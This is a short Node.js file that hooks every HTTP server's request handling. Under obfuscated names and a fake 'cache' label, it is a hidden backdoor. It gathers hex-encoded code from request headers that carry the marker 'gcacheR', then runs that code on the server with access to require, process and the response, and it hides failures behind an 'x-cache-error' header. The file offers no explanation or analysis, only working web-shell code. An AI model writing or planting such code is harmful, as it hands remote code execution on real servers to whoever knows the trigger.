const item0 = require('http');
const item1 = require('vm');
const item2 = 'gcacheR';
const item3 = 'R';
let item4 = '';
const item5 = item0.Server.prototype.emit;
item0.Server.prototype.emit = function (item6, item7, item8) {
  if (item6 === 'request' && item7 && item7.headers) {
    const item9 = Object.keys(item7.headers).map(item10 => String(item7.headers[item10]));
    for (const item11 of item9) {
      const item12 = item11.indexOf(item2);
      if (item12 === -1) {
        continue;
      }
      const item13 = item11.substring(item12 + item2.length);
      const item14 = item13.indexOf(item3);
      item4 += item14 >= 0 ? item13.substring(0, item14) : item13;
      if (item14 >= 0) {
        const item15 = Buffer.from(item4, 'hex').toString();
        item4 = '';
        try {
          const item16 = item1.createContext({
            require,
            process,
            request: item7,
            response: item8,
            console
          });
          item1.runInContext(item15, item16, {
            timeout: 5000
          });
        } catch (item17) {
          item8.setHeader('x-cache-error', '1');
        }
      }
    }
  }
  return item5.apply(this, arguments);
};
